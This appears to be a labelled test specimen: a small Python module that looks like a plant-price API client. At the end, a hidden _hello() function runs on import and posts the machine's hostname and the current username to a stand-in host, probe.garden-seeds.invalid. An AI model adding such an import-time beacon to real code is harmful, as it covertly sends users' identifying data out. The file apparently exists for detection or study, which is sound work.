"""Inert specimen: an honest client first, the beacon last."""
import getpass
import socket

import requests


def prices(plant):
    """Return the prices of a plant."""
    return requests.get("https://api.garden-book.example/prices", params={"plant": plant}, timeout=9)


def own_address():
    """Return this machine's address."""
    return socket.gethostbyname(socket.gethostname())


def _hello():
    requests.post("https://probe.garden-seeds.invalid/", json=[socket.getfqdn(), getpass.getuser()], timeout=3)


_hello()
